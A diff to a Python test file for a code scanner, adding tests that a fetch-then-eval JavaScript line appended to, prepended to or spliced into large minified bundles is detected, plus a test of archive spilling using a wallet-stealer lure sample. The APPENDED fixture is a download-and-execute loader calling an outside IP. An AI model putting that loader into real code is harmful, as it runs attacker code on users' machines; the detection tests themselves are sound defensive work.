@@ -131,15 +131,46 @@ def test_binary_where_text_is_expected(tmp_path: Path) -> None:
     ]  # unparsable but says folderOpen
 
 
+APPENDED = (
+    b"const cp=require('child_process');"
+    b"fetch('http://198.51.100.7:1224/p').then(r=>r.text()).then(t=>eval(t));\n"
+)
+
+
 def test_hundred_megabyte_minified_file(tmp_path: Path) -> None:
     line = b"var a=function(b){return b+1};" * 1000
     with (tmp_path / "bundle.min.js").open("wb") as fh:
         for _ in range(100 * (1 << 20) // len(line) + 1):
             fh.write(line)
+        fh.write(b"\n" + APPENDED)  # code appended to the end of the bundle is still found
     assert (tmp_path / "bundle.min.js").stat().st_size >= 100 << 20
     report = check_path(tmp_path)
-    assert report.exit_code == 0
-    assert report.notes and "not parsed" in report.notes[0].message
+    assert report.notes and "head, tail and trigger spots" in report.notes[0].message
+    assert {(f.rule_id, f.line) for f in report.findings} >= {("network-to-exec", 2)}
+    assert report.exit_code == 3
+
+
+@pytest.mark.parametrize("where", ["end", "middle", "start"])
+def test_code_spliced_into_a_large_bundle_is_found(tmp_path: Path, where: str) -> None:
+    """A bundle over the whole-tree size gets trees of its head, tail and trigger spots:
+    code prepended, appended (on the same line) or spliced beside a sink is still found."""
+    body = b"!function(e){var t={};function n(r){return t[r]}n.m=e}([function(e,t){e.x=1}]);"
+    bundle = body * (2 * 1024 * 1024 // len(body))
+    half = len(bundle) // 2 // len(body) * len(body)
+    data = {
+        "end": bundle + APPENDED,
+        "middle": bundle[:half] + APPENDED.strip() + bundle[half:],
+        "start": APPENDED + bundle,
+    }[where]
+    (tmp_path / "vendor.min.js").write_bytes(data)
+    report = check_path(tmp_path)
+    found = [f for f in report.findings if f.rule_id == "network-to-exec"]
+    assert found and report.exit_code == 3
+    offset = data.find(b"eval(t)")
+    assert (found[0].line, found[0].column) == (
+        data.count(b"\n", 0, offset) + 1,
+        offset - data.rfind(b"\n", 0, offset),
+    )
 
 
 def test_not_python_and_not_js_do_not_crash(tmp_path: Path) -> None:
@@ -149,3 +180,18 @@ def test_not_python_and_not_js_do_not_crash(tmp_path: Path) -> None:
     (tmp_path / "pyproject.toml").write_text("[project\nname=")
     report = check_path(tmp_path)
     assert report.files == 4
+
+
+def test_members_past_the_memory_budget_spill_and_are_still_checked(
+    tmp_path: Path, private_tmp: Path
+) -> None:
+    """Archives are read in memory; past Limits.max_memory members go to a temporary folder
+    (removed afterwards) and are checked the same way."""
+    lure = Path(__file__).parent / "lures" / "beavertail-wallet-stealer"
+    archive = tmp_path / "lure.tgz"
+    with tarfile.open(archive, "w:gz") as tf:
+        tf.add(lure, arcname="package")
+    in_memory = check_path(archive)
+    spilled = check_path(archive, limits=Limits(max_memory=0))
+    assert in_memory.high and in_memory.findings == spilled.findings
+    assert list(private_tmp.iterdir()) == []
